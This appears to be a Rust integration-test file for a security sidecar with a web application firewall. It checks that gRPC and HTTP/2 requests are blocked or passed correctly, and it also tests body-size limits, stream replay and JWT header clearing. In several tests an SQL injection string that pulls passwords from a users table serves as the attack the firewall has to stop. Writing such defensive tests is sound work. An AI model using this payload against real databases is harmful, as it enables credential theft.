    sidecar_of_h2_app(app, &waf_policy("{mode: BLOCK}")).await
}

/// A sidecar with `policy` in front of `app` spoken to over HTTP/2, and an HTTP/2 client of it.
async fn sidecar_of_h2_app(
    app: std::net::SocketAddr,
    policy: &str,
) -> (PolicedSidecar, h2::client::SendRequest<bytes::Bytes>) {
    let s = PolicedSidecar::start_with(policy, |c| {
        c.inbound.app.0 = app;
        c.inbound.app_protocol = palisade::config::AppProtocol::Http2;
    })
    .await;
    let tcp = tokio::net::TcpStream::connect(s.sidecar.inbound).await.unwrap();
    let (client, connection) = h2::client::handshake(tcp).await.unwrap();
    tokio::spawn(connection);
    let client = client.ready().await.unwrap();
    (s, client)
}

/// A bidirectional stream whose client sends an attack after the app has begun to answer: the
/// app's call is cancelled before a byte of the attack reaches it, and the client reads the
/// messages it had and then `PERMISSION_DENIED` in trailers, as an app's own refusal would end
/// the stream (it had been reset, which gRPC clients report as `CANCELLED` or `INTERNAL`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grpc_stream_refused_after_the_app_began_to_answer_ends_with_the_refusals_status() {
    let (app, mut reports) = reporting_h2_app_answering(true).await;
    let (s, mut client) = blocking_sidecar_of_h2_app(app).await;
    let request = http::Request::post("http://orders.shop/shop.v1.Chat/Talk")
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    let (answer, mut body) = client.send_request(request.body(()).unwrap(), false).unwrap();
    let answer = in_time("the app's head", answer).await.unwrap();
    assert_eq!(answer.status(), 200);
    let mut answer = answer.into_body();
    let first = in_time("the app's first message", answer.data()).await.unwrap().unwrap();
    assert_eq!(first, grpc_frame(&proto_string(1, b"hello")));
    let _ = answer.flow_control().release_capacity(first.len());
    let attack = grpc_frame(&proto_string(1, b"1' UNION SELECT password FROM users--"));
    body.send_data(bytes::Bytes::from(attack), false).unwrap();
    let end = in_time("the end of the answer", answer.data()).await;
    assert!(end.is_none(), "no more messages: {end:?}");
    let trailers = in_time("the trailers", answer.trailers()).await.expect("trailers, not a reset stream");
    let trailers = trailers.expect("trailers");
    assert_eq!(trailers["grpc-status"], "7", "PERMISSION_DENIED: {trailers:?}");
    let message = trailers["grpc-message"].to_str().unwrap();
    assert!(message.starts_with("forbidden (request id "), "{message}");
    let (rest, ended) = heard_until_done(&mut reports).await;
    assert!(rest.is_empty() && !ended, "the app got {rest:?} of the attack; its call ended cleanly: {ended}");
    s.events_where("the finding", 1, |e| e.to_string().contains("grpc_field")).await;
    s.shutdown();
}

async fn in_time<T>(what: &str, future: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(std::time::Duration::from_secs(10), future).await.unwrap_or_else(|_| panic!("{what} in time"))
}

/// The body bytes the app reported until the body ended or was reset, and which of the two.
async fn heard_until_done(reports: &mut tokio::sync::mpsc::UnboundedReceiver<AppHeard>) -> (Vec<u8>, bool) {
    let mut bytes = Vec::new();
    loop {
        match tokio::time::timeout(std::time::Duration::from_secs(10), reports.recv())
            .await
            .expect("the app's report in time")
        {
            Some(AppHeard::Bytes(b)) => bytes.extend(b),
            Some(AppHeard::Ended) => return (bytes, true),
            Some(AppHeard::Reset) | None => return (bytes, false),
        }
    }
}

/// gRPC calls to an HTTP/2 app are read a message at a time as they stream: the app gets each
/// message as soon as it is whole (a streaming call is never held back for its client's last
/// one), and a message with an attack in any field stops the call before a byte of it reaches
/// the app. The event names the field by its numbers, as the schema is not known.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grpc_messages_are_read_as_they_stream_and_one_with_an_attack_never_reaches_the_app() {
    let (app, mut reports) = reporting_h2_app().await;
    let (s, mut client) = blocking_sidecar_of_h2_app(app).await;
    let call = |client: &mut h2::client::SendRequest<bytes::Bytes>| {
        let request = http::Request::post("http://orders.shop/shop.v1.Orders/Upload")
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        client.send_request(request.body(()).unwrap(), false).unwrap()
    };

    // A client stream: the first message reaches the app while the call is still open.
    let (answer, mut body) = call(&mut client);
    let mut note = proto_string(1, b"Zo\xc3\xab O'Brien, 1 Main St.");
    note.extend(proto_string(2, &[0, 1, 2, 0xff, 0]));
    let first = grpc_frame(&proto_string(3, &note));
    body.send_data(bytes::Bytes::from(first.clone()), false).unwrap();
    let mut heard = Vec::new();
    while heard.len() < first.len() {
        match tokio::time::timeout(std::time::Duration::from_secs(10), reports.recv())
            .await
            .expect("the first message in time")
        {
            Some(AppHeard::Bytes(b)) => heard.extend(b),
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(heard, first);
    // The second carries an attack two messages deep, and comes in two pieces.
    let attack = grpc_frame(&proto_string(3, &proto_string(1, b"1' UNION SELECT password FROM users--")));
    body.send_data(bytes::Bytes::copy_from_slice(&attack[..9]), false).unwrap();
    body.send_data(bytes::Bytes::copy_from_slice(&attack[9..]), false).unwrap();
    let answer =
        tokio::time::timeout(std::time::Duration::from_secs(10), answer).await.expect("the refusal in time").unwrap();
    assert_eq!(grpc_refusal(answer).await, (403, "7: forbidden".into()), "PERMISSION_DENIED");
    let (rest, ended) = heard_until_done(&mut reports).await;
    assert!(rest.is_empty() && !ended, "the app got {rest:?} of the attack; its call ended cleanly: {ended}");
    let events = s.events_where("the finding", 1, |e| e.to_string().contains("grpc_field")).await;
    let waf = &events[0]["unmapped"]["waf"];
    assert_eq!((waf["detector"].as_str(), waf["name"].as_str()), (Some("sqli"), Some("3.1")), "{}", events[0]);

    // A call of whole messages that end the body goes on whole, and is answered.
    let (answer, mut body) = call(&mut client);
    let two = [grpc_frame(&note), grpc_frame(b"")].concat();
    body.send_data(bytes::Bytes::from(two.clone()), true).unwrap();
    assert_eq!(heard_until_done(&mut reports).await, (two, true));
    let answer =
        tokio::time::timeout(std::time::Duration::from_secs(10), answer).await.expect("the answer in time").unwrap();
    assert_eq!(answer.status(), 200);

    // A call under another label (grpc-core serves one whatever its content-type says) is read
    // as gRPC when it is framed like it; a binary body that only starts like a frame goes on whole.
    let labelled = |client: &mut h2::client::SendRequest<bytes::Bytes>, content_type: &'static str| {
        let request =
            http::Request::post("http://orders.shop/shop.v1.Orders/Upload").header("content-type", content_type);
        client.send_request(request.body(()).unwrap(), false).unwrap()
    };
    let (answer, mut body) = labelled(&mut client, "text/plain");
    body.send_data(bytes::Bytes::from(attack.clone()), true).unwrap();
    let answer = tokio::time::timeout(std::time::Duration::from_secs(10), answer).await.expect("in time").unwrap();
    assert_eq!(answer.status(), 403, "framed like gRPC under text/plain");
    let (rest, _) = heard_until_done(&mut reports).await;
    assert!(rest.is_empty(), "{rest:?}");
    let mut binary = vec![0, 0, 0, 0x18, 0x66, b't', b'y', b'p'];
    binary.extend((0..40_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    for content_type in ["application/octet-stream", "video/mp4"] {
        let (answer, mut body) = labelled(&mut client, content_type);
        body.send_data(bytes::Bytes::from(binary.clone()), true).unwrap();
        assert_eq!(heard_until_done(&mut reports).await, (binary.clone(), true), "{content_type}");
        let answer = tokio::time::timeout(std::time::Duration::from_secs(10), answer).await.expect("in time").unwrap();
        assert_eq!(answer.status(), 200, "{content_type}");
    }

    // A body that ends inside a message is refused, and the app never gets the piece.
    let (answer, mut body) = call(&mut client);
    body.send_data(bytes::Bytes::copy_from_slice(&grpc_frame(&note)[..8]), true).unwrap();
    let answer =
        tokio::time::timeout(std::time::Duration::from_secs(10), answer).await.expect("the refusal in time").unwrap();
    assert_eq!(grpc_refusal(answer).await, (400, "13: invalid_request".into()), "INTERNAL, as gRPC reads a 400");
    let (rest, _) = heard_until_done(&mut reports).await;
    assert!(rest.is_empty(), "{rest:?}");
    s.shutdown();
}

/// An HTTP/2 app that refuses the first call to each path (`REFUSED_STREAM`, which a client
/// may send again: nothing of it was processed) once it has read `refuse_after` bytes of its
/// body, and answers every later one 200 with the body's length and its last bytes (in hex,
/// from the end). It says when it refused a call, and when a call sent again has brought
/// `refuse_after` bytes.
async fn h2_app_refusing_first_calls(
    refuse_after: usize,
) -> (std::net::SocketAddr, tokio::sync::mpsc::UnboundedReceiver<String>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let refused = std::sync::Arc::new(std::sync::Mutex::new(std::collections::HashSet::<String>::new()));
    let (again, sent_again) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        loop {
            let (tcp, _) = listener.accept().await.unwrap();
            let (refused, again) = (refused.clone(), again.clone());
            tokio::spawn(async move {
                let mut connection = h2::server::handshake(tcp).await.unwrap();
                while let Some(Ok((request, mut respond))) = connection.accept().await {
                    let (refused, again) = (refused.clone(), again.clone());
                    tokio::spawn(async move {
                        let path = request.uri().path().to_string();
                        let first = refused.lock().unwrap().insert(path.clone());
                        let mut body = request.into_body();
                        let mut got = Vec::new();
                        while let Some(Ok(piece)) = body.data().await {
                            let _ = body.flow_control().release_capacity(piece.len());
                            let before = got.len();
                            got.extend_from_slice(&piece);
                            if before < refuse_after && got.len() >= refuse_after {
                                if first {
                                    respond.send_reset(h2::Reason::REFUSED_STREAM);
                                    let _ = again.send(format!("refused {path}"));
                                    return;
                                }
                                let _ = again.send(path.clone());
                            }
                        }
                        let answer = http::Response::builder()
                            .header("x-body-length", got.len())
                            .header(
                                "x-body-end",
                                got.iter().rev().take(8).map(|b| format!("{b:02x}")).collect::<String>(),
                            )
                            .body(())
                            .unwrap();
                        let _ = respond.send_response(answer, true);
                    });
                }
            });
        }
    });
    (addr, sent_again)
}

/// pingora sends a call the app refused unprocessed (`REFUSED_STREAM`) again, with the body read
/// so far, through the sidecar's body filter a second time: the second sending is counted and
/// read from its start, not added to the first (a body over half of `maxBodyBytes` had been 413
/// on its second sending; a gRPC call refused with half a message read was read from the middle
/// of its replayed first message).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_the_app_refused_unprocessed_is_sent_again_whole_and_counted_once() {
    let first = grpc_frame(&proto_string(1, b"first"));
    let (app, mut sent_again) = h2_app_refusing_first_calls(first.len()).await;
    let rules =
        "  authorization: {default: ALLOW}\n  inputValidation:\n    maxBodyBytes: 1000\n    waf: {mode: BLOCK}\n";
    let (s, mut client) = sidecar_of_h2_app(app, &policy("api", rules)).await;
    let mut call_with = |method: &str, path: &str, content_type: &str| {
        let request = http::Request::builder()
            .method(method)
            .uri(format!("http://orders.shop{path}"))
            .header("content-type", content_type);
        client.send_request(request.body(()).unwrap(), false).unwrap()
    };

    // A POST: nothing of a refused stream ran, whatever its method (RFC 9113 §8.7); pingora's
    // own policy sends idempotent methods again only, and the caller had 502.
    let (answer, mut body) = call_with("POST", "/orders", "application/json");
    body.send_data(bytes::Bytes::from_static(b"{\"item\": \"blue shoes\"}"), true).unwrap();
    let answer = in_time("the answer", answer).await.unwrap();
    assert_eq!(answer.status(), 200, "{answer:?}");
    assert_eq!(answer.headers()["x-body-length"], "22");
    assert_eq!(sent_again.recv().await.as_deref(), Some("refused /orders"));
    assert_eq!(sent_again.recv().await.as_deref(), Some("/orders"), "sent again");
    let mut call = |path: &str, content_type: &str| call_with("PUT", path, content_type);

    // A JSON body of 700 bytes, read whole by the WAF before it goes on.
    let json = format!("{{\"note\": \"{}\"}}", "a".repeat(700 - 12)).into_bytes();
    assert_eq!(json.len(), 700);
    let (answer, mut body) = call("/items/1", "application/json");
    body.send_data(bytes::Bytes::from(json), true).unwrap();
    let answer = in_time("the answer", answer).await.unwrap();
    assert_eq!(answer.status(), 200, "{answer:?}");
    assert_eq!(answer.headers()["x-body-length"], "700");
    assert_eq!(sent_again.recv().await.as_deref(), Some("refused /items/1"));
    assert_eq!(sent_again.recv().await.as_deref(), Some("/items/1"), "sent again");

    // A gRPC call, read as it streams, refused by the app once it has the first message, with
    // three bytes of the second read and held; the rest is sent once the call has gone to the
    // app again.
    let second = grpc_frame(&proto_string(1, b"second"));
    let (answer, mut body) = call_with("POST", "/shop.v1.Items/Put", "application/grpc");
    body.send_data(bytes::Bytes::from([first.clone(), second[..3].to_vec()].concat()), false).unwrap();
    assert_eq!(in_time("the refusal", sent_again.recv()).await.as_deref(), Some("refused /shop.v1.Items/Put"));
    assert_eq!(in_time("the call sent again", sent_again.recv()).await.as_deref(), Some("/shop.v1.Items/Put"));
    body.send_data(bytes::Bytes::copy_from_slice(&second[3..]), true).unwrap();
    let answer = in_time("the answer", answer).await.unwrap();
    assert_eq!(answer.status(), 200, "{answer:?}");
    let whole = [first, second].concat();
    assert_eq!(answer.headers()["x-body-length"], whole.len().to_string().as_str());
    let end: String = whole.iter().rev().take(8).map(|b| format!("{b:02x}")).collect();
    assert_eq!(answer.headers()["x-body-end"], end.as_str());
    s.shutdown();
}

/// A body of no declared length that crosses `maxBodyBytes` on its way to an HTTP/2 app: the
/// caller gets 413 with its event, and the app's stream is reset (it had waited, with the
/// caller, for a body that never ended).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streamed_body_over_the_limit_to_an_http2_app_is_413_and_the_apps_stream_ends() {
    let (app, mut reports) = reporting_h2_app().await;
    let rules = "  authorization: {default: ALLOW}\n  inputValidation: {maxBodyBytes: 1000}\n";
    let (s, mut client) = sidecar_of_h2_app(app, &policy("api", rules)).await;
    let request = http::Request::post("http://orders.shop/upload").header("content-type", "application/octet-stream");
    let (answer, mut body) = client.send_request(request.body(()).unwrap(), false).unwrap();
    for _ in 0..5 {
        body.send_data(bytes::Bytes::from(vec![b'x'; 400]), false).unwrap();
    }
    let answer = in_time("the refusal", answer).await.unwrap();
    assert_eq!(answer.status(), 413, "{answer:?}");
    let (heard, ended) = in_time("the app's stream to end", heard_until_done(&mut reports)).await;
    assert!(!ended && heard.len() <= 1000, "the app got {} bytes; its body ended cleanly: {ended}", heard.len());
    let events = s.events_where("the refusal's event", 1, |e| e["http_response"]["code"] == 413).await;
    assert_eq!(events[0]["firewall_rule"]["uid"], "-/inputValidation.maxBodyBytes", "{}", events[0]);
    s.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_verified_token_is_cleared_from_every_place_a_provider_reads_it() {
    // Two providers of one issuer, each reading its own header. The same token in both was
    // verified by the one whose key and audience it fits, and only that one's header was cleared:
    // the app got the token in `Authorization`, whose provider refuses it on its own.
    let (pay, billing) = (Signer::ec("ES256", "pay"), Signer::ec("ES256", "billing"));
    let dir = tempfile::tempdir().unwrap();
    let (pay_keys, billing_keys) = (dir.path().join("pay.json"), dir.path().join("billing.json"));
    std::fs::write(&pay_keys, jwks(&[&pay])).unwrap();
    std::fs::write(&billing_keys, jwks(&[&billing])).unwrap();
    let spec = format!(
        r#"  authentication:
    requireJwt: true
    jwt:
      - {{issuer: {ISS}, audiences: [pay], jwks: {{file: "{}"}}, fromHeaders: [{{name: x-jwt}}]}}
      - {{issuer: {ISS}, audiences: [orders], jwks: {{file: "{}"}}}}
"#,
        pay_keys.display(),
        billing_keys.display()
    );
    let side = PolicedSidecar::start(&policy("api", &spec)).await;
    let mut for_pay = claims("alice");
    for_pay["aud"] = json!("pay");
    let token = pay.token(&for_pay);
    let bearer = format!("Bearer {token}");
    let alone = side.send("frontend", "GET", "/orders", &[("authorization", &bearer)]).await;
    assert_eq!(alone.status, 401, "its provider refuses it in Authorization: {alone:?}");
    let both = side.send("frontend", "GET", "/orders", &[("authorization", &bearer), ("x-jwt", &token)]).await;
    assert_eq!(both.status, 200, "{both:?}");
    let seen = both.seen();
    assert_eq!((seen.header("authorization"), seen.header("x-jwt")), (None, None), "{:?}", seen.headers);
    side.shutdown();
}
